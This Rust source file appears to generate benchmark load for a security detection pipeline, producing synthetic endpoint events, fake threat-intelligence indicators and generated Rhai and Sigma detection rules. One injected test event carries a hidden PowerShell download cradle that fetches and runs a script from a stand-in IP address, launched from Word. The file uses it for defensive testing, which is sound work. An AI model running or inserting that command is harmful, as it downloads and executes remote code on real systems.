//! Generated load: the event mix, indicators of every kind, and rules shaped like real content.

/// A realistic mix of sensor events: one day of the generated office fleet the shipped anomaly
/// model was trained on (55% process starts, 25% connections, 15% DNS queries, 5% logins, see
/// `anomaly::synth`), where one in `malicious_every` is replaced by an Office macro starting
/// PowerShell with a download cradle. Each line holds the placeholder `"@ID@"` for its id.
pub fn event_mix(count: usize, malicious_every: usize) -> Vec<String> {
    crate::anomaly::synth::normal(count, 1, 42)
        .into_iter()
        .enumerate()
        .map(|(i, mut event)| {
            if malicious_every > 0 && i % malicious_every == malicious_every / 2 {
                event = serde_json::json!({
                    "type": "process_create", "timestamp": event["timestamp"], "host": event["host"],
                    "pid": 1000 + i, "ppid": 4100, "name": "powershell.exe", "parent_name": "WINWORD.EXE",
                    "cmdline": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
                });
            }
            event["id"] = serde_json::json!("@ID@");
            event.to_string()
        })
        .collect()
}

/// A deterministic stream of pseudo-random numbers (no dependency, same figures every run).
pub(super) struct Lcg(pub(super) u64);

impl Lcg {
    pub(super) fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 16
    }
}

/// `count` indicators: 45% addresses, 5% ranges, 25% domains, 10% URLs, 15% hashes, from four
/// sources.
pub fn indicator_mix(count: usize) -> Vec<crate::intel::Indicator> {
    use crate::intel::{Indicator, IndicatorKind};
    let mut rng = Lcg(42);
    let sources = ["feodo", "threatfox", "misp", "otx"];
    (0..count)
        .map(|i| {
            let r = rng.next();
            let (kind, value) = match i % 20 {
                0..=8 => (
                    IndicatorKind::Ip,
                    format!(
                        "{}.{}.{}.{}",
                        11 + r % 200,
                        (r >> 8) % 256,
                        (r >> 16) % 256,
                        (r >> 24) % 256
                    ),
                ),
                9 => (
                    IndicatorKind::Cidr,
                    format!(
                        "{}.{}.{}.0/24",
                        11 + r % 200,
                        (r >> 8) % 256,
                        (r >> 16) % 256
                    ),
                ),
                10..=14 => (
                    IndicatorKind::Domain,
                    format!("c2-{:x}.example{}.net", r % 100_000_000, r % 97),
                ),
                15 | 16 => (
                    IndicatorKind::Url,
                    format!("http://host{}.example.org/p/{:x}", r % 10_000, r),
                ),
                _ => (
                    IndicatorKind::Sha256,
                    format!(
                        "{:016x}{:016x}{:016x}{:016x}",
                        r,
                        rng.next(),
                        rng.next(),
                        rng.next()
                    ),
                ),
            };
            let mut indicator = Indicator::new(kind, value, sources[i % sources.len()]);
            indicator.confidence = (50 + r % 50) as u8;
            indicator.threat =
                Some(["Emotet", "Dridex", "TrickBot", "QakBot"][(r % 4) as usize].into());
            indicator
        })
        .collect()
}

/// One generated rule file: its name in the rules folder and its text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleFile {
    pub name: String,
    pub text: String,
}

/// `count` rules shaped like real content, in turn: Rhai rules on process starts (a filter on
/// the name and the command line, then script logic) and on connections (a port filter, a
/// script on the address), and Sigma rules on process creation (several selections with
/// `endswith`, `contains|all` and a filter) and on DNS queries (`endswith` lists). They look for
/// tools and markers the bench's events never carry, as most of a deployment's rules do for
/// most events: each event still goes through the type index and the filters of every rule.
pub fn rule_files(count: usize) -> Vec<RuleFile> {
    (0..count)
        .map(|i| match i % 4 {
            0 => RuleFile {
                name: format!("bench_generated_{i:04}.rhai"),
                text: rhai_process_rule(i),
            },
            1 => RuleFile {
                name: format!("bench_generated_{i:04}.rhai"),
                text: rhai_connection_rule(i),
            },
            2 => RuleFile {
                name: format!("bench_generated_{i:04}.yml"),
                text: sigma_process_rule(i),
            },
            _ => RuleFile {
                name: format!("bench_generated_{i:04}.yml"),
                text: sigma_dns_rule(i),
            },
        })
        .collect()
}

fn rhai_process_rule(i: usize) -> String {
    format!(
        r#"// Generated by `palisade bench pipeline --rules`: a renamed tool run with its flags.
let rule = #{{
    id: "bench-generated-{i:04}",
    title: "Generated tool {i} ran with a marker",
    severity: "medium",
    tags: ["attack.execution", "attack.t1059"],
    events: ["process_create"],
    filter: #{{ name: ["gentool{i}.exe", "gentool{i}64.exe", "gt{i}.exe"], "cmdline|contains": ["-m{i}", "/mark{i}"] }},
}};

fn detect(event) {{
    let cmdline = event.cmdline ?? "";
    if contains_any(cmdline, ["-m{i} stage", "/mark{i} run"]) {{
        return #{{ severity: "high", entity: "process" }};
    }}
    #{{ entity: "process" }}
}}
"#
    )
}

fn rhai_connection_rule(i: usize) -> String {
    let port = 40_000 + i;
    format!(
        r#"// Generated by `palisade bench pipeline --rules`: connections to a tool's listening ports.
let rule = #{{
    id: "bench-generated-{i:04}",
    title: "Connection to generated port {port}",
    severity: "low",
    tags: ["attack.command_and_control", "attack.t1571"],
    events: ["network_connection"],
    filter: #{{ remote_port: [{port}, {}] }},
}};

fn detect(event) {{
    let image = event.image ?? "";
    if contains_any(image, ["\\temp\\", "\\appdata\\"]) {{
        return #{{ severity: "medium", entity: "process" }};
    }}
    #{{ entity: "process" }}
}}
"#,
        port + 1
    )
}

/// A stable, well-formed UUID for generated rule `i`.
fn rule_uuid(i: usize) -> String {
    format!("6e1f0000-0000-4000-8000-{i:012x}")
}

fn sigma_process_rule(i: usize) -> String {
    format!(
        r#"title: Generated tool {i} run from a user folder
id: {uuid}
status: stable
description: Generated by `palisade bench pipeline --rules`.
author: palisade bench
tags:
  - attack.execution
  - attack.t1204
logsource:
  product: windows
  category: process_creation
detection:
  selection_image:
    - Image|endswith:
        - '\gen{i}a.exe'
        - '\gen{i}b.exe'
        - '\gen{i}c.exe'
    - OriginalFileName: 'gen{i}.exe'
  selection_flags:
    CommandLine|contains|all:
      - ' -k{i} '
      - 'payload{i}'
  filter_admin:
    ParentImage|endswith:
      - '\services.exe'
      - '\msiexec.exe'
  condition: all of selection_* and not filter_admin
falsepositives:
  - None known.
level: medium
"#,
        uuid = rule_uuid(i)
    )
}

fn sigma_dns_rule(i: usize) -> String {
    format!(
        r#"title: Generated lookups of a tool's {i} domains
id: {uuid}
status: stable
description: Generated by `palisade bench pipeline --rules`.
author: palisade bench
tags:
  - attack.command_and_control
  - attack.t1071.004
logsource:
  product: windows
  category: dns_query
detection:
  selection:
    QueryName|endswith:
      - '.gen{i}-cdn.net'
      - '.gen{i}-update.org'
      - '.gen{i}.example.net'
  selection_prefix:
    QueryName|startswith:
      - 'gen{i}-'
      - 'g{i}x.'
  condition: 1 of selection*
falsepositives:
  - None known.
level: low
"#,
        uuid = rule_uuid(i)
    )
}
